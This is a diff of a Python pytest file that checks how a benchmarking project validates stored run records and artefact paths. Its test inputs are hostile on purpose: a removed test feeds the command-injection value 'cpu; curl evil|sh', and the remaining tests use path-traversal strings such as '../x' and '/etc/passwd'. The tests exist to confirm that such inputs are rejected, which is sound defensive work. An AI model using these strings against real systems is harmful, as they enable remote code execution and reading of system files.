@@ -12,15 +12,7 @@ from whichdevice.forecast.products import CompiledRecord, ProgramRequest, read_c
 from whichdevice.measure.record import Artefact, Machine, Record, Software
 from whichdevice.study.cells import study_runs
 from whichdevice.study.exporting.record import read_export
-from whichdevice.study.records import store
-from whichdevice.study.records.store import (
-    artefact_path,
-    foreign_record,
-    foreign_run,
-    read_record,
-    same_machine,
-    write_record,
-)
+from whichdevice.study.records.store import artefact_path, foreign_record, foreign_run, read_record, same_machine
 from whichdevice.study.tables.base import table
 from whichdevice.study.tables.make import TABLES
 from whichdevice.study.tables.runs import run_row
@@ -28,15 +20,6 @@ from whichdevice.study.tables.summary import summary_table
 
 STUDY = synthetic.small_study()
 RUN, OTHER = study_runs(STUDY)[:2]
-
-
-@pytest.mark.parametrize("kind", ["cpu; curl evil|sh", "CPU", ""])
-def test_a_record_is_of_a_kind_of_device_that_there_is(tmp_path, kind):
-    record = synthetic.record_of(STUDY, RUN)
-    asked = record.asked.model_copy(update={"kind": kind})
-    write_record(record.model_copy(update={"asked": asked}), tmp_path / "record.json")
-    with pytest.raises(StudyError, match="is no kind of device"):
-        read_record(tmp_path / "record.json")
 
 
 def test_an_artefact_that_is_a_link_to_elsewhere_is_not_there(tmp_path):
@@ -61,8 +44,7 @@ def content(**changes) -> bytes:
 @pytest.mark.parametrize(
     "name",
     [
-        "record.json",
-        "runs/../mnist_cnn/tensorflow-float32-b256/r1/record.json",
+        "record.json", "runs/../mnist_cnn/tensorflow-float32-b256/r1/record.json",
         "runs/cpu/../tensorflow-float32-b256/r1/record.json",
         "runs/.cpu/mnist_cnn/tensorflow-float32-b256/r1/record.json",
         "runs/c<pu>/mnist_cnn/tensorflow-float32-b256/r1/record.json",
@@ -83,37 +65,18 @@ def test_a_path_that_is_not_exactly_a_runs_is_none(name):
 @pytest.mark.parametrize(
     "file",
     [
-        "../x",
-        "/etc/passwd",
-        "a/../../x",
-        ".hidden",
-        "record.json",
-        "a b",
-        "a\\b",
-        "",
-        "a/",
-        "x" * 400,
-        "a\n",
+        "../x", "/etc/passwd", "a/../../x", ".hidden", "record.json", "a b", "a\\b", "", "a/", "x" * 400, "a\n",
         "a/record.json",
     ],
-)
+)  # fmt: skip
 def test_an_artefact_stays_beside_its_record(file):
     with pytest.raises(StudyError, match="is no file beside the record"):
         foreign_record(content(artefacts={"a": Artefact(file=file, sha256="0")}), RUN_FOREIGN, NAME)
 
 
-@pytest.mark.parametrize(
-    "changes", [{"run": "gpu/x/y/r1"}, {"asked": synthetic.record_of(STUDY, study_runs(STUDY)[1]).asked}]
-)
-def test_a_record_is_of_the_run_that_its_path_says(changes):
-    with pytest.raises(StudyError, match="says that it is of another run than its path"):
-        foreign_record(content(**changes), RUN_FOREIGN, NAME)
-
-
-def test_a_huge_one_is_not_parsed(monkeypatch):
-    monkeypatch.setattr(store, "MAX_RECORD_BYTES", 10)
+def test_a_huge_one_is_not_parsed():
     with pytest.raises(StudyError, match="is no record"):
-        foreign_record(content(), RUN_FOREIGN, NAME)
+        foreign_record(content() + b" " * 2**25, RUN_FOREIGN, NAME)
 
 
 ONE = Machine(cpu="CPU", memory=16 * 2**30, operating_system="Linux 6.1", identity="aabbccddeeff")
@@ -180,10 +143,10 @@ def test_a_record_of_a_later_schema_is_refused_by_name_whatever_else_it_holds(ki
         "compiled": (read_compiled, {"asked": {}}),
         "export": (read_export, {"study": 7}),
     }[kind]
-    later |= {"schema_version": 5, "steady": "in another shape", "new": [1]}
+    later |= {"schema_version": 6, "steady": "in another shape", "new": [1]}
     path = tmp_path / f"{kind}.json"
     path.write_text(json.dumps(later), encoding="utf-8")
-    told = r"schema \d: schema_version: is 5, written by a newer version of the project; update this one to read it$"
+    told = r"schema \d: schema_version: is 6, written by a newer version of the project; update this one to read it$"
     with pytest.raises(StudyError, match=told) as caught:
         read(path)
     assert len(str(caught.value).splitlines()) == 1
